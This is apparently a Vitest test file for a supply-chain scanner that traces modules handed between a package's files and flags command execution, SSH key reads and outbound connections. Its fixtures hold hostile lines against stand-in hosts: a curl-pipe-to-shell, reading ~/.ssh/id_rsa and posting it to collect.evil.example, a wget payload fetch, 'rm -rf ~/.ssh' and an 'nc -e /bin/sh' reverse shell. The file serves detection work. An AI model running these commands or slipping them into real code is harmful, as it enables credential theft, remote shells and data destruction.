import { describe, expect, it } from "vitest";
import { analysePackageFiles } from "@/scanner/analyse-package-files";
import { filesInMemory } from "@/scanner/package-files";

// A module or a module's function handed from one of a package's files to another is called in
// the importer with its command, path or host: the package's analysis works out, file by file,
// what each hands on, and reads an importer again when it was read before a file it imports.

const analyse = (files: Record<string, string>) =>
  analysePackageFiles(filesInMemory(new Map(Object.entries(files).map(([file, text]) => [file, Buffer.from(text)]))), new Set(["a-index.js"]));

/** The code findings of one file, but for what files hand on. */
const seen = (files: Record<string, string>, file: string) =>
  analyse(files)
    .findings.filter((f) => f.file === file && !f.message.startsWith("Hands "))
    .map((f) => `${f.line} ${f.severity} ${f.message}`)
    .sort();

describe("calls through the package's own files", () => {
  it("sees the command, path and host in the importer, also when it is read first", () => {
    const files = {
      "a-index.js": `const sh = require("./z/shell"); const { readKey, post } = require("./z/io");
sh.exec("curl -s https://evil.example/x | sh");
const key = readKey(require("os").homedir() + "/.ssh/id_rsa");
post({ hostname: "collect.evil.example", method: "POST" }).end(key);`,
      "z/shell.js": `module.exports = require("child_process");`,
      "z/io.js": `const fs = require("fs"); exports.readKey = fs.readFileSync; exports.post = require("https").request;`,
    };
    expect(seen(files, "a-index.js")).toEqual([
      '2 info Runs "curl" (child_process.exec)',
      "3 high Reads SSH keys (~/.ssh/id_rsa)",
      "4 info Opens an outbound connection (https.request) to collect.evil.example",
    ]);
    expect(analyse(files).capabilities.filter((c) => c.file === "a-index.js").map((c) => `${c.kind} ${c.value}`).sort()).toEqual(["exec curl", "network collect.evil.example", "read ~/.ssh/id_rsa"]);
  });

  it("follows what compilers write: tsc's requires and getters, TypeScript's ES module imports of .js names, default exports", () => {
    const files = {
      "a-index.js": `"use strict";
const shell_1 = require("./shell");
const run_1 = __importDefault(require("./run"));
(0, shell_1.run)("wget http://evil.example/payload");
run_1.default("rm -rf ~/.ssh");`,
      "shell.js": `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const child_process_1 = require("child_process");
Object.defineProperty(exports, "run", { enumerable: true, get: function () { return child_process_1.execSync; } });`,
      "run.js": `module.exports = require("child_process").execSync;`,
      "src/main.ts": `import { run } from "./tools.js";\nimport launch from "./tools.js";\nrun("nc -e /bin/sh evil.example 4444");\nlaunch("python3", ["-c", "x"]);`,
      "src/tools.ts": `export { exec as run } from "node:child_process";\nexport { spawn as default } from "node:child_process";`,
    };
    expect(seen(files, "a-index.js")).toEqual(['4 info Runs "wget" (child_process.execSync)', '5 info Runs "rm" (child_process.execSync)']);
    expect(seen(files, "src/main.ts")).toEqual(['3 info Runs "nc" (child_process.exec)', '4 info Runs "python3" (child_process.spawn)']);
  });

  it("follows a module handed on through several files, whatever order they are read in", () => {
    const files = {
      "a-index.mjs": `import * as net from "./b.mjs";\nnet.request({ host: "c2.evil.example" });\nnet.get("https://api.example.com/x");`,
      "b.mjs": `export * from "./c.cjs";`,
      "c.cjs": `module.exports = require("./d");`,
      "d.js": `module.exports = require("node:https");`,
    };
    expect(seen(files, "a-index.mjs")).toEqual([
      "2 info Opens an outbound connection (https.request) to c2.evil.example",
      "3 info Opens an outbound connection (https.get) to api.example.com",
    ]);
  });

  it("sees nothing where an own file hands on no module, or a name it does not export, or no such file is in the package", () => {
    const files = {
      "a-index.js": `const db = require("./db"); const sh = require("./shell"); const gone = require("./missing");
db.exec("curl https://evil.example"); sh.log("curl"); gone.exec("curl"); require("../outside").exec("curl");`,
      "db.js": `exports.exec = function (query) { return pool.query(query); };`,
      "shell.js": `exports.run = require("child_process").exec;`,
    };
    expect(seen(files, "a-index.js")).toEqual([]);
  });

  it("still reports what a file hands on, for importers it cannot see", () => {
    const findings = analyse({ "a-index.js": `require("./shell").exec("ls");`, "shell.js": `module.exports = require("child_process");` }).findings;
    expect(findings.map((f) => `${f.file}:${f.line} ${f.message}`)).toEqual(['a-index.js:1 Runs "ls" (child_process.exec)', "shell.js:1 Hands child_process on to other files (runs commands worked out at run time)"]);
  });
});
